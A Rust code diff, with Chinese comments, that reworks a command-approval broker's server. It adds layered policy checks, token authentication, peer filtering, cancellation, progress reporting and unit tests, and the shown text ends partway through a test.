@@ -1,39 +1,636 @@
 use std::collections::HashMap;
 use std::net::SocketAddr;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::Arc;
 use std::time::{Duration, Instant, SystemTime};
 
 use anyhow::Context;
 use bytes::Bytes;
-use futures_util::{SinkExt, StreamExt};
+use futures_util::{Sink, SinkExt, StreamExt};
 use tokio::net::{TcpListener, TcpStream};
+use tokio::sync::{oneshot, RwLock};
 use tokio_util::codec::{Framed, LengthDelimitedCodec};
+use tracing::Instrument;
+use uuid::Uuid;
 
-use protocol::{CommandRequest, CommandResponse};
+use protocol::{
+    compression, CancelOutcome, CommandAuth, CommandCancel, CommandProgress, CommandRequest,
+    CommandResponse,
+};
+use system_utils::secret::constant_time_eq;
 
+use super::access::{accept_peer, ClientAccess};
 use super::audit::{spawn_write_request_record, spawn_write_request_record_value, RequestRecord};
 use super::events::{PendingRequest, ServerEvent};
-use super::output::spawn_write_result_record;
-use super::policy::{deny_message, request_summary, Whitelist};
+use super::file_changes::analyze_request;
+use super::history::{HistoryIndexEntry, SharedHistoryStore};
+use super::output::{is_safe_request_id, spawn_write_result_record};
+use super::policy::{
+    policy_denial, readonly_denial, readonly_request_denial, request_summary, LivePolicy,
+    PolicyDenial, UnparseablePolicy,
+};
+use super::quota::QuotaTracker;
+use super::redaction::RedactionConfig;
 use super::service::TargetServiceHandle;
+use super::shell_parse::{parse_shell_stages, undeclared_command};
+use super::webhook::{ResultDelivery, ResultWebhook};
+use crate::metrics::{Metrics, RequestOutcome};
+use crate::state::{ConsoleState, ControlCommand};
+use crate::time_utils::system_time_ms;
+
+const PROGRESS_INTERVAL: Duration = Duration::from_secs(10);
+// 开启 control_token 时，连接建立后须在此时间内发来认证帧，避免空闲连接一直占着任务。
+const AUTH_FRAME_TIMEOUT: Duration = Duration::from_secs(5);
+
+/// 请求进入审批队列前的统一入口：命令连接和 console 命令模板共用同一套校验与落盘。
+pub(crate) struct CommandIntake {
+    services: HashMap<String, TargetServiceHandle>,
+    policy: Arc<LivePolicy>,
+    redaction: Arc<RedactionConfig>,
+    quota: Arc<QuotaTracker>,
+    state: Arc<RwLock<ConsoleState>>,
+    metrics: Arc<Metrics>,
+    result_webhook: Option<ResultWebhook>,
+    // 命令端口已绑定且 accept 正常时为 true；accept 出错时置 false，下次成功再恢复。
+    listening: AtomicBool,
+}
+
+impl CommandIntake {
+    pub(super) fn new(
+        services: HashMap<String, TargetServiceHandle>,
+        policy: Arc<LivePolicy>,
+        redaction: Arc<RedactionConfig>,
+        quota: Arc<QuotaTracker>,
+        state: Arc<RwLock<ConsoleState>>,
+        metrics: Arc<Metrics>,
+        result_webhook: Option<ResultWebhook>,
+    ) -> Self {
+        Self {
+            services,
+            policy,
+            redaction,
+            quota,
+            state,
+            metrics,
+            result_webhook,
+            listening: AtomicBool::new(false),
+        }
+    }
+
+    /// 命令监听端口是否在正常接受连接，供 `/health/detail` 的 `command_server.bound` 使用。
+    pub(crate) fn command_server_listening(&self) -> bool {
+        self.listening.load(Ordering::SeqCst)
+    }
+
+    pub(crate) async fn progress(
+        &self,
+        target: &str,
+        id: &str,
+        elapsed: Duration,
+    ) -> CommandProgress {
+        let (stage, position) = self.state.read().await.request_progress(target, id);
+        CommandProgress::Progress {
+            id: id.to_string(),
+            stage,
+            elapsed_secs: elapsed.as_secs(),
+            position,
+        }
+    }
+
+    /// 目标的共享历史索引；目标没有运行中的 service 时为 None。
+    pub(super) fn history_store(&self, target: &str) -> Option<SharedHistoryStore> {
+        self.services
+            .get(target)
+            .map(|handle| Arc::clone(&handle.history_store))
+    }
+
+    /// 重新读取 `--broker-config`，见 [`LivePolicy::reload`]。
+    pub(crate) fn reload_policy(&self) -> Result<Vec<String>, String> {
+        self.policy.reload()
+    }
+
+    /// 按当前策略的 readonly_whitelist 校验要注入终端的命令，返回拒绝原因。
+    pub(crate) fn readonly_denial(&self, command: &str) -> Option<String> {
+        readonly_denial(&self.policy.current().readonly_whitelist, command)
+    }
+
+    /// 提交方取消自己的请求；未知目标与 service 不可用都按 NotFound 处理。
+    pub(crate) async fn cancel(&self, target: &str, id: String, client: String) -> CancelOutcome {
+        let Some(handle) = self.services.get(target) else {
+            return CancelOutcome::NotFound;
+        };
+        let (respond_to, outcome) = oneshot::channel();
+        let command = ControlCommand::ClientCancel {
+            id,
+            client,
+            respond_to,
+        };
+        if handle.command_tx.send(command).await.is_err() {
+            return CancelOutcome::NotFound;
+        }
+        outcome.await.unwrap_or(CancelOutcome::NotFound)
+    }
+
+    /// 通过校验时返回等待最终结果的 receiver；被拒绝（未知目标、维护中、策略/意图不通过等）时直接返回响应。
+    ///
+    /// 请求没有合法的 `trace_id`（旧版 proxy、HTTP 模板调用）时在这里补一个，之后的日志、审计记录与响应都带上它。
+    pub(crate) async fn submit(
+        &self,
+        request: CommandRequest,
+        peer: &str,
+    ) -> Result<oneshot::Receiver<CommandResponse>, CommandResponse> {
+        self.submit_preapproved(request, peer, None).await
+    }
+
+    /// 控制台内部发起的请求（定时任务）：`preapproved_by` 为 Some 时，pipeline 全部通过白名单即以它为 actor 自动批准。
+    pub(crate) async fn submit_preapproved(
+        &self,
+        mut request: CommandRequest,
+        peer: &str,
+        preapproved_by: Option<String>,
+    ) -> Result<oneshot::Receiver<CommandResponse>, CommandResponse> {
+        let trace_id = request
+            .trace_id
+            .as_deref()
+            .and_then(protocol::normalize_trace_id)
+            .unwrap_or_else(|| Uuid::new_v4().to_string());
+        request.trace_id = Some(trace_id.clone());
+        let span = tracing::info_span!("command", trace_id = %trace_id);
+        self.submit_traced(request, peer, preapproved_by)
+            .instrument(span)
+            .await
+            .map_err(|response| response.with_trace_id(Some(trace_id)))
+    }
+
+    async fn submit_traced(
+        &self,
+        mut request: CommandRequest,
+        peer: &str,
+        preapproved_by: Option<String>,
+    ) -> Result<oneshot::Receiver<CommandResponse>, CommandResponse> {
+        let Some(handle) = self.services.get(&request.target) else {
+            return Err(CommandResponse::error(
+                request.id.clone(),
+                format!("unknown target {}", request.target),
+            ));
+        };
+
+        // id 由调用方指定并直接拼进审计文件名：含路径字符或仍在使用、已有记录的 id 在落盘前拒绝。
+        if !is_safe_request_id(&request.id) {
+            tracing::warn!(
+                event = "command.request.invalid_id",
+                id = %request.id,
+                peer = %peer,
+            );
+            return Err(CommandResponse::error(
+                request.id.clone(),
+                "invalid request id: must be non-empty and must not contain '/', '\\' or '..'",
+            ));
+        }
+        let in_flight = self
+            .state
+            .read()
+            .await
+            .request_in_flight(&request.target, &request.id);
+        if in_flight || handle.history_store.lock().await.contains(&request.id) {
+            tracing::warn!(
+                event = "command.request.duplicate_id",
+                id = %request.id,
+                target = %request.target,
+                peer = %peer,
+            );
+            return Err(CommandResponse::error(
+                request.id.clone(),
+                format!("request id {} is already in use", request.id),
+            ));
+        }
+
+        if let Some(Err(err)) = request
+            .metadata
+            .as_ref()
+            .map(protocol::validate_request_metadata)
+        {
+            tracing::warn!(
+                event = "command.request.invalid_metadata",
+                id = %request.id,
+                peer = %peer,
+                error = %err,
+            );
+            return Err(CommandResponse::error(
+                request.id.clone(),
+                format!("invalid metadata: {err}"),
+            ));
+        }
+
+        tracing::info!(
+            event = "command.request_received",
+            id = %request.id,
+            client = %request.client,
+            target = %request.target,
+            peer = %peer,
+            command = %request_summary(&request),
+        );
+        self.metrics
+            .record(&request.target, RequestOutcome::Received);
+
+        let (maintenance, windows_target) = {
+            let state = self.state.read().await;
+            (
+                state
+                    .maintenance_message(&request.target)
+                    .map(str::to_string),
+                state
+                    .target_spec(&request.target)
+                    .is_some_and(|spec| spec.shell.is_windows()),
+            )
+        };
+        if let Some(message) = maintenance {
+            tracing::info!(
+                event = "command.request_denied_maintenance",
+                id = %request.id,
+                client = %request.client,
+                target = %request.target,
+                peer = %peer,
+            );
+            let reason = if message.is_empty() {
+                "target in maintenance".to_string()
+            } else {
+                format!("target in maintenance: {message}")
+            };
+            return Err(self.record_denial(handle, &request, peer, reason, None));
+        }
+
+        // 整个校验过程使用同一份策略快照，期间的重载只影响之后的请求。
+        let policy = self.policy.current();
+        // 超大请求在解析与白名单校验之前拒绝；服务端解析出的 pipeline 再按同样的上限检查一次。
+        let limits = policy.limits.request;
+        if let Some(denial) = limits
+            .raw_command_denial(&request.raw_command)
+            .or_else(|| limits.pipeline_denial(&request.pipeline))
+        {
+            return Err(self.deny_over_limit(handle, &request, peer, denial));
+        }
+        // pipeline 由客户端提供，不能信任：以服务端从 raw_command 解析出的各段为准做白名单校验。
+        // cmd/powershell 的语法与 POSIX shell 不同，Windows 目标仍按声明的 pipeline 校验。
+        let mut unparseable = false;
+        let parsed = (!windows_target).then(|| parse_shell_stages(&request.raw_command));
+        match parsed {
+            None => {}
+            Some(Ok(stages)) => {
+                if let Some(denial) = limits.pipeline_denial(&stages) {
+                    return Err(self.deny_over_limit(handle, &request, peer, denial));
+                }
+                if let Some(command) = undeclared_command(&request.pipeline, &stages) {
+                    tracing::warn!(
+                        event = "command.request_denied_pipeline_mismatch",
+                        id = %request.id,
+                        client = %request.client,
+                        peer = %peer,
+                        command = %command,
+                    );
+                    let reason = format!(
+                        "denied by policy: declared pipeline does not match raw_command ({command} not declared)"
+                    );
+                    return Err(self.record_denial(
+                        handle,
+                        &request,
+                        peer,
+                        reason,
+                        Some("pipeline_mismatch".to_string()),
+                    ));
+                }
+                request.pipeline = stages;
+            }
+            Some(Err(err)) => match policy.whitelist.on_unparseable() {
+                UnparseablePolicy::Deny => {
+                    tracing::info!(
+                        event = "command.request_denied_unparseable",
+                        id = %request.id,
+                        client = %request.client,
+                        peer = %peer,
+                        error = %err,
+                    );
+                    return Err(self.record_denial(
+                        handle,
+                        &request,
+                        peer,
+                        format!("denied by policy: cannot parse raw_command: {err}"),
+                        Some("whitelist.on_unparseable: deny".to_string()),
+                    ));
+                }
+                UnparseablePolicy::Manual => {
+                    tracing::info!(
+                        event = "command.request_unparseable",
+                        id = %request.id,
+                        client = %request.client,
+                        peer = %peer,
+                        error = %err,
+                    );
+                    unparseable = true;
+                }
+            },
+        }
+
+        let temporary_rules = match policy_denial(&policy.whitelist, &request, |command| {
+            handle.temporary_rules.matching(command, SystemTime::now())
+        }) {
+            Ok(temporary_rules) => temporary_rules,
+            Err(denial) => {
+                tracing::info!(
+                    event = "command.request_denied_policy",
+                    id = %request.id,
+                    client = %request.client,
+                    peer = %peer,
+                    reason = %denial.message,
+                    rule = denial.rule.as_deref().unwrap_or("-"),
+                );
+                return Err(self.record_denial(
+                    handle,
+                    &request,
+                    peer,
+                    format!("denied by policy: {}", denial.message),
+                    denial.rule,
+                ));
+            }
+        };
+        for rule_use in &temporary_rules {
+            tracing::info!(
+                event = "command.temporary_rule_used",
+                id = %request.id,
+                client = %request.client,
+                target = %request.target,
+                rule_id = %rule_use.id,
+                rule = %rule_use.rule,
+                actor = %rule_use.actor,
+            );
+        }
+
+        if let Err(denial) = policy.intent.validate(&request.intent) {
+            tracing::info!(
+                event = "command.request_denied_intent",
+                id = %request.id,
+                client = %request.client,
+                peer = %peer,
+                reason = %denial.message,
+            );
+            return Err(self.record_denial(
+                handle,
+                &request,
+                peer,
+                format!("denied by policy: {}", denial.message),
+                denial.rule,
+            ));
+        }
+
+        // 声明只读却不符合 readonly_whitelist 时直接拒绝并说明原因，而不是悄悄转人工审批。
+        if request.readonly {
+            let reason = if windows_target {
+                Some("not available for Windows targets".to_string())
+            } else if unparseable {
+                Some("command not parseable".to_string())
+            } else {
+                readonly_request_denial(&policy.readonly_whitelist, &request)
+            };
+            if let Some(reason) = reason {
+                tracing::info!(
+                    event = "command.request_denied_readonly",
+                    id = %request.id,
+                    client = %request.client,
+                    peer = %peer,
+                    reason = %reason,
+                );
+                return Err(self.record_denial(
+                    handle,
+                    &request,
+                    peer,
+                    format!(
+                        "denied by policy: not a read-only command ({reason}); resend without readonly to queue it for approval"
+                    ),
+                    Some("readonly_whitelist".to_string()),
+                ));
+            }
+        }
+
+        let outside_window = policy.whitelist.outside_window(&request, SystemTime::now());
+        if let Some(window) = outside_window.as_ref().filter(|window| window.deny) {
+            tracing::info!(
+                event = "command.request_denied_time_window",
+                id = %request.id,
+                client = %request.client,
+                peer = %peer,
+                rule = %window.rule,
+            );
+            return Err(self.record_denial(
+                handle,
+                &request,
+                peer,
+                "denied by policy: outside allowed time window".to_string(),
+                Some(window.rule.clone()),
+            ));
+        }
+
+        // 默认账号也写回请求，审批界面与审计记录看到的就是实际执行账号。
+        let run_as = if windows_target {
+            match request.run_as.as_deref().map(str::trim) {
+                Some(user) if !user.is_empty() => Err(PolicyDenial {
+                    message: "run_as is not supported on windows targets".to_string(),
+                    rule: Some("limits.run_as".to_string()),
+                }),
+                _ => Ok(None),
+            }
+        } else {
+            policy.limits.run_as.resolve(request.run_as.as_deref())
+        };
+        match run_as {
+            Ok(run_as) => request.run_as = run_as,
+            Err(denial) => {
+                tracing::info!(
+                    event = "command.request_denied_run_as",
+                    id = %request.id,
+                    client = %request.client,
+                    peer = %peer,
+                    reason = %denial.message,
+                );
+                return Err(self.record_denial(
+                    handle,
+                    &request,
+                    peer,
+                    format!("denied by policy: {}", denial.message),
+                    denial.rule,
+                ));
+            }
+        }
+
+        let now = SystemTime::now();
+        let quota = self
+            .quota
+            .check(&policy.quota, &request.target, &request.client, 0, now);
+        // 顺便刷新展示的用量，跨过 UTC 零点或策略重载后的额度变化也能及时反映。
+        self.state.write().await.set_quota_usage(
+            &request.target,
+            self.quota.usage(&policy.quota, &request.target, now),
+        );
+        if let Err((message, rule)) = quota {
+            tracing::info!(
+                event = "command.request_denied_quota",
+                id = %request.id,
+                client = %request.client,
+                target = %request.target,
+                peer = %peer,
+                reason = %message,
+            );
+            return Err(self.record_denial(
+                handle,
+                &request,
+                peer,
+                format!("denied by policy: {message}"),
+                Some(rule),
+            ));
+        }
+
+        // 解析不了 raw_command 时，声明的 pipeline 只参与上面的拒绝检查；入队前清空，
+        // 沙箱 exempt_commands、dangerous_patterns 等都不再依据客户端的声明，审批看原始命令。
+        if unparseable {
+            request.pipeline.clear();
+        }
+
+        let id = request.id.clone();
+        let (respond_to, response_rx) = oneshot::channel();
+        let file_changes = analyze_request(&request);
+        let requires_confirmation = policy.whitelist.requires_confirmation(&request);
+        let env_preview = request
+            .env
+            .as_ref()
+            .filter(|env| !env.is_empty())
+            .map(|env| self.redaction.preview_env(env));
+        let pending = PendingRequest {
+            request,
+            peer: peer.to_string(),
+            received_at: SystemTime::now(),
+            queued_at: Instant::now(),
+            respond_to,
+            file_changes,
+            env_preview,
+            requires_confirmation,
+            unparseable,
+            outside_window: outside_window.is_some(),
+            original_command: None,
+            temporary_rules,
+            preapproved_by,
+            decision: None,
+        };
+        spawn_write_request_record(Arc::clone(&handle.output_dir), &pending);
+        if handle
+            .server_tx
+            .send(ServerEvent::Request(pending))
+            .await
+            .is_err()
+        {
+            return Err(CommandResponse::error(id, "target service stopped"));
+        }
+        Ok(response_rx)
+    }
+
+    fn deny_over_limit(
+        &self,
+        handle: &TargetServiceHandle,
+        request: &CommandRequest,
+        peer: &str,
+        denial: PolicyDenial,
+    ) -> CommandResponse {
+        tracing::info!(
+            event = "command.request_denied_limits",
+            id = %request.id,
+            client = %request.client,
+            peer = %peer,
+            reason = %denial.message,
+            rule = denial.rule.as_deref().unwrap_or("-"),
+        );
+        self.record_denial(
+            handle,
+            request,
+            peer,
+            format!("denied by policy: {}", denial.message),
+            denial.rule,
+        )
+    }
+
+    // 不进入审批队列的直接拒绝：照常落盘 request/result 记录并写入历史索引。
+    fn record_denial(
+        &self,
+        handle: &TargetServiceHandle,
+        request: &CommandRequest,
+        peer: &str,
+        reason: String,
+        denied_by_rule: Option<String>,
+    ) -> CommandResponse {
+        self.metrics.record(&request.target, RequestOutcome::Denied);
+        let output_dir = Arc::clone(&handle.output_dir);
+        let received_at = SystemTime::now();
+        let record = RequestRecord::from_request(request, peer, received_at);
+        spawn_write_request_record_value(Arc::clone(&output_dir), record);
+        let response = CommandResponse::denied(request.id.clone(), reason)
+            .with_trace_id(request.trace_id.clone());
+        spawn_write_result_record(
+            output_dir,
+            response.clone(),
+            Duration::from_secs(0),
+            denied_by_rule,
+            None,
+        );
+        if let Some(webhook) = self.result_webhook.as_ref() {
+            webhook.notify(ResultDelivery::new(
+                request,
+                &response,
+                received_at,
+                received_at,
+                Duration::ZERO,
+            ));
+        }
+        let entry = HistoryIndexEntry::new(
+            &request.id,
+            system_time_ms(received_at),
+            response.status.clone(),
+            &request.raw_command,
+        );
+        let history_store = Arc::clone(&handle.history_store);
+        tokio::spawn(async move {
+            history_store.lock().await.append(entry).await;
+        });
+        response
+    }
+}
 
 pub(super) async fn spawn_command_server(
     listen_addr: SocketAddr,
-    services: HashMap<String, TargetServiceHandle>,
-    whitelist: Arc<Whitelist>,
+    client_access: Option<ClientAccess>,
+    intake: Arc<CommandIntake>,
+    control_token: Option<String>,
 ) -> anyhow::Result<()> {
+    let control_token: Option<Arc<str>> = control_token.map(Arc::from);
     let listener = TcpListener::bind(listen_addr).await.map_err(|err| {
         anyhow::anyhow!("failed to bind command listener {}: {}", listen_addr, err)
     })?;
-    let services = Arc::new(services);
+    intake.listening.store(true, Ordering::SeqCst);
     tokio::spawn(async move {
         loop {
             match listener.accept().await {
                 Ok((stream, addr)) => {
-                    let services = Arc::clone(&services);
-                    let whitelist = Arc::clone(&whitelist);
+                    intake.listening.store(true, Ordering::SeqCst);
+                    if !accept_peer(client_access.as_ref(), addr) {
+                        tracing::warn!(
+                            event = "command.conn.rejected",
+                            peer = %addr,
+                            "command connection rejected: peer not in allowed_client_cidrs"
+                        );
+                        drop(stream);
+                        continue;
+                    }
+                    let intake = Arc::clone(&intake);
+                    let control_token = control_token.clone();
                     tokio::spawn(async move {
-                        if let Err(err) = handle_connection(stream, addr, services, whitelist).await
+                        if let Err(err) =
+                            handle_connection(stream, addr, intake, control_token).await
                         {
                             tracing::error!(
                                 event = "command.conn.error",
@@ -45,6 +642,7 @@ pub(super) async fn spawn_command_server(
                     });
                 }
                 Err(err) => {
+                    intake.listening.store(false, Ordering::SeqCst);
                     tracing::error!(
                         event = "command.listener.accept_failed",
                         error = %err,
@@ -60,16 +658,51 @@ pub(super) async fn spawn_command_server(
 async fn handle_connection(
     stream: TcpStream,
     addr: SocketAddr,
-    services: Arc<HashMap<String, TargetServiceHandle>>,
-    whitelist: Arc<Whitelist>,
+    intake: Arc<CommandIntake>,
+    control_token: Option<Arc<str>>,
 ) -> anyhow::Result<()> {
     tracing::info!(event = "command.conn.open", peer = %addr);
     let codec = LengthDelimitedCodec::builder()
         .max_frame_length(protocol::framing::MAX_FRAME_LENGTH)
         .new_codec();
     let mut framed = Framed::new(stream, codec);
+    if let Some(expected) = control_token.as_deref() {
+        let first = match tokio::time::timeout(AUTH_FRAME_TIMEOUT, framed.next()).await {
+            Ok(first) => first.transpose().context("frame read")?,
+            Err(_) => {
+                tracing::warn!(
+                    event = "command.conn.auth_timeout",
+                    peer = %addr,
+                    timeout_ms = AUTH_FRAME_TIMEOUT.as_millis() as u64,
+                    "command connection dropped: no auth frame received in time"
+                );
+                return Ok(());
+            }
+        };
+        if !first.is_some_and(|bytes| auth_frame_matches(&bytes, expected)) {
+            tracing::warn!(
+                event = "command.conn.auth_failed",
+                peer = %addr,
+                "command connection rejected: missing or invalid control token"
+            );
+            let payload = serde_json::to_vec(&CommandAuth::AuthRejected)?;
+            let _ = framed.send(Bytes::from(payload)).await;
+            return Ok(());
+        }
+    }
+    let peer = addr.to_string();
     while let Some(frame) = framed.next().await {
         let bytes = frame.context("frame read")?;
+        // 未配置 control_token 时忽略客户端多发的认证帧，新旧两端可以混用。
+        if serde_json::from_slice::<CommandAuth>(&bytes).is_ok() {
+            continue;
+        }
+        if let Ok(CommandCancel::Cancel { target, id, client }) = serde_json::from_slice(&bytes) {
+            let outcome = intake.cancel(&target, id.clone(), client).await;
+            let payload = serde_json::to_vec(&CommandCancel::CancelResult { id, outcome })?;
+            framed.send(Bytes::from(payload)).await?;
+            continue;
+        }
         let request: CommandRequest = match serde_json::from_slice(&bytes) {
             Ok(request) => request,
             Err(err) => {
@@ -86,73 +719,31 @@ async fn handle_connection(
             }
         };
 
-        let handle = match services.get(&request.target) {
-            Some(handle) => handle.clone(),
-            None => {
-                let response = CommandResponse::error(
-                    request.id.clone(),
-                    format!("unknown target {}", request.target),
-                );
+        let compression = request.compression.clone();
+        let progress = request
+            .progress
+            .then(|| (request.target.clone(), request.id.clone()));
+        let response_rx = match intake.submit(request, &peer).await {
+            Ok(response_rx) => response_rx,
+            Err(response) => {
                 let payload = serde_json::to_vec(&response)?;
                 let _ = framed.send(Bytes::from(payload)).await;
                 continue;
             }
         };
-
-        tracing::info!(
-            event = "command.request_received",
-            id = %request.id,
-            client = %request.client,
-            target = %request.target,
-            peer = %addr,
-            command = %request_summary(&request),
-        );
-
-        if let Some(message) = deny_message(&whitelist, &request) {
-            tracing::info!(
-                event = "command.request_denied_policy",
-                id = %request.id,
-                client = %request.client,
-                peer = %addr,
-                reason = %message,
-            );
-            let output_dir = Arc::clone(&handle.output_dir);
-            let received_at = SystemTime::now();
-            let record = RequestRecord::from_request(&request, &addr.to_string(), received_at);
-            spawn_write_request_record_value(Arc::clone(&output_dir), record);
-            let response =
-                CommandResponse::denied(request.id.clone(), format!("denied by policy: {message}"));
-            spawn_write_result_record(
-                Arc::clone(&output_dir),
-                response.clone(),
-                Duration::from_secs(0),
-            );
-            let payload = serde_json::to_vec(&response)?;
-            let _ = framed.send(Bytes::from(payload)).await;
-            continue;
-        }
-
-        let (respond_to, response_rx) = tokio::sync::oneshot::channel();
-        let pending = PendingRequest {
-            request,
-            peer: addr.to_string(),
-            received_at: SystemTime::now(),
-            queued_at: Instant::now(),
-            respond_to,
+        let response = match progress {
+            Some((target, id)) => {
+                let started = Instant::now();
+                await_with_progress(&mut framed, response_rx, PROGRESS_INTERVAL, || {
+                    intake.progress(&target, &id, started.elapsed())
+                })
+                .await?
+            }
+            None => response_rx.await,
         };
-        spawn_write_request_record(Arc::clone(&handle.output_dir), &pending);
-        if handle
-            .server_tx
-            .send(ServerEvent::Request(pending))
-            .await
-            .is_err()
-        {
-            break;
-        }
-
-        match response_rx.await {
+        match response {
             Ok(response) => {
-                let payload = serde_json::to_vec(&response)?;
+                let payload = encode_response(&response, &compression)?;
                 framed.send(Bytes::from(payload)).await?;
             }
             Err(_) => break,
@@ -162,6 +753,57 @@ async fn handle_connection(
     Ok(())
 }
 
+// 等待最终响应期间按 `interval` 发送进度帧，首帧在入队后立即发送。
+async fn await_with_progress<S, F, Fut>(
+    sink: &mut S,
+    mut response_rx: oneshot::Receiver<CommandResponse>,
+    interval: Duration,
+    progress: F,
+) -> anyhow::Result<Result<CommandResponse, oneshot::error::RecvError>>
+where
+    S: Sink<Bytes> + Unpin,
+    S::Error: std::error::Error + Send + Sync + 'static,
+    F: Fn() -> Fut,
+    Fut: std::future::Future<Output = CommandProgress>,
+{
+    let mut ticker = tokio::time::interval(interval);
+    ticker.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
+    loop {
+        tokio::select! {
+            biased;
+            response = &mut response_rx => return Ok(response),
+            _ = ticker.tick() => {
+                let frame = serde_json::to_vec(&progress().await)?;
+                sink.send(Bytes::from(frame)).await?;
+            }
+        }
+    }
+}
+
+// 对端在请求里声明了 gzip 时，超过阈值的响应压缩后发送。
+fn encode_response(response: &CommandResponse, accepted: &[String]) -> anyhow::Result<Vec<u8>> {
+    let payload = serde_json::to_vec(response)?;
+    let bytes = payload.len();
+    let encoded = compression::encode_frame(payload, accepted).context("compress response")?;
+    if encoded.len() != bytes {
+        tracing::debug!(
+            event = "command.response.compressed",
+            id = %response.id,
+            bytes,
+            compressed_bytes = encoded.len(),
+            "compressed command response"
+        );
+    }
+    Ok(encoded)
+}
+
+fn auth_frame_matches(bytes: &[u8], expected: &str) -> bool {
+    match serde_json::from_slice::<CommandAuth>(bytes) {
+        Ok(CommandAuth::Auth { token }) => constant_time_eq(token.as_bytes(), expected.as_bytes()),
+        _ => false,
+    }
+}
+
 impl Clone for TargetServiceHandle {
     fn clone(&self) -> Self {
         Self {
@@ -169,6 +811,433 @@ impl Clone for TargetServiceHandle {
             command_tx: self.command_tx.clone(),
             snapshot: self.snapshot.clone(),
             output_dir: self.output_dir.clone(),
+            temporary_rules: self.temporary_rules.clone(),
+            history_store: self.history_store.clone(),
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn auth_frame_requires_matching_token() {
+        let frame = |value: &CommandAuth| serde_json::to_vec(value).expect("serialize");
+        let auth = |token: &str| CommandAuth::Auth {
+            token: token.to_string(),
+        };
+        assert!(auth_frame_matches(&frame(&auth("s3cret")), "s3cret"));
+        assert!(!auth_frame_matches(&frame(&auth("s3cre")), "s3cret"));
+        assert!(!auth_frame_matches(&frame(&auth("S3cret")), "s3cret"));
+        assert!(!auth_frame_matches(
+            &frame(&CommandAuth::AuthRejected),
+            "s3cret"
+        ));
+        assert!(!auth_frame_matches(br#"{"id":"req-1"}"#, "s3cret"));
+        assert!(!auth_frame_matches(b"not json", "s3cret"));
+    }
+
+    #[tokio::test]
+    async fn progress_frames_repeat_until_response() {
+        use protocol::ProgressStage;
+
+        let (respond_to, response_rx) = oneshot::channel();
+        let approved = Arc::new(AtomicBool::new(false));
+        let flag = Arc::clone(&approved);
+        tokio::spawn(async move {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+            flag.store(true, Ordering::SeqCst);
+            tokio::time::sleep(Duration::from_millis(50)).await;
+            let _ = respond_to.send(CommandResponse::completed("req-1", 0, None, None));
+        });
+        let mut frames: Vec<Bytes> = Vec::new();
+        let response =
+            await_with_progress(&mut frames, response_rx, Duration::from_millis(20), || {
+                let stage = if approved.load(Ordering::SeqCst) {
+                    ProgressStage::Executing
+                } else {
+                    ProgressStage::Queued
+                };
+                async move {
+                    CommandProgress::Progress {
+                        id: "req-1".to_string(),
+                        stage,
+                        elapsed_secs: 0,
+                        position: (stage == ProgressStage::Queued).then_some(1),
+                    }
+                }
+            })
+            .await
+            .expect("send progress")
+            .expect("response");
+        assert_eq!(response.id, "req-1");
+
+        let stages: Vec<(ProgressStage, Option<usize>)> = frames
+            .iter()
+            .map(
+                |frame| match CommandProgress::from_frame(frame).expect("progress frame") {
+                    CommandProgress::Progress {
+                        stage, position, ..
+                    } => (stage, position),
+                },
+            )
+            .collect();
+        // 首帧立即发出，之后约每 20ms 一帧，响应到达后不再发送。
+        assert!((3..=6).contains(&stages.len()), "{stages:?}");
+        assert_eq!(stages[0], (ProgressStage::Queued, Some(1)));
+        assert_eq!(stages.last(), Some(&(ProgressStage::Executing, None)));
+    }
+
+    #[derive(Clone, Default)]
+    struct CapturedLogs(Arc<std::sync::Mutex<Vec<u8>>>);
+
+    impl std::io::Write for CapturedLogs {
+        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+            self.0.lock().unwrap().extend_from_slice(buf);
+            Ok(buf.len())
+        }
+
+        fn flush(&mut self) -> std::io::Result<()> {
+            Ok(())
+        }
+    }
+
+    impl CapturedLogs {
+        fn line(&self, event: &str) -> Option<String> {
+            String::from_utf8_lossy(&self.0.lock().unwrap())
+                .lines()
+                .find(|line| line.contains(event))
+                .map(str::to_string)
+        }
+    }
+
+    fn traced_request(id: &str, raw_command: &str, trace_id: Option<&str>) -> CommandRequest {
+        CommandRequest {
+            id: id.to_string(),
+            client: "proxy".to_string(),
+            target: "dev".to_string(),
+            intent: "inspect".to_string(),
+            raw_command: raw_command.to_string(),
+            pipeline: super::super::templates::parse_pipeline(raw_command).expect("pipeline"),
+            trace_id: trace_id.map(str::to_string),
+            ..Default::default()
+        }
+    }
+
+    // 审计记录由后台任务写入，轮询等它落盘。
+    async fn read_record(path: std::path::PathBuf) -> serde_json::Value {
+        for _ in 0..200 {
+            if let Ok(bytes) = tokio::fs::read(&path).await {
+                return serde_json::from_slice(&bytes).expect("record json");
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        panic!("{} was not written", path.display());
+    }
+
+    fn test_intake(
+        dir: &std::path::Path,
+        policy: &str,
+    ) -> (CommandIntake, tokio::sync::mpsc::Sender<ControlCommand>) {
+        use super::super::policy::{ActivePolicy, PolicyConfig};
+
+        let config = toml::from_str(
+            r#"
+[[targets]]
+name = "dev"
+desc = "dev"
+ssh = "devops@127.0.0.1"
+"#,
+        )
+        .expect("config");
+        let state = crate::state::build_console_state(config, None).expect("state");
+        let target = state.target_spec("dev").expect("target");
+        let state = Arc::new(RwLock::new(state));
+        let policy: PolicyConfig = toml::from_str(policy).expect("policy");
+        let policy = Arc::new(LivePolicy::new(
+            dir.join("broker.toml"),
+            ActivePolicy::from_config(&policy).expect("active policy"),
+        ));
+        let redaction = Arc::new(RedactionConfig::default());
+        let quota = Arc::new(QuotaTracker::load(dir));
+        let metrics = Arc::new(Metrics::default());
+        let (event_tx, _) = tokio::sync::broadcast::channel(64);
+        let handle = super::super::service::spawn_service(
+            target,
+            Arc::clone(&policy),
+            Arc::clone(&redaction),
+            Arc::clone(&quota),
+            Arc::new(dir.to_path_buf()),
+            super::super::history::HistoryStore::load(dir).into_shared(),
+            None,
+            Arc::clone(&state),
+            event_tx,
+            Arc::clone(&metrics),
+        );
+        let command_tx = handle.command_tx.clone();
+        let intake = CommandIntake::new(
+            HashMap::from([("dev".to_string(), handle)]),
+            policy,
+            redaction,
+            quota,
+            state,
+            metrics,
+            None,
+        );
+        (intake, command_tx)
+    }
+
+    #[tokio::test]
+    async fn trace_id_reaches_logs_records_and_responses() {
+        use super::super::test_utils::temp_dir;
+
+        let logs = CapturedLogs::default();
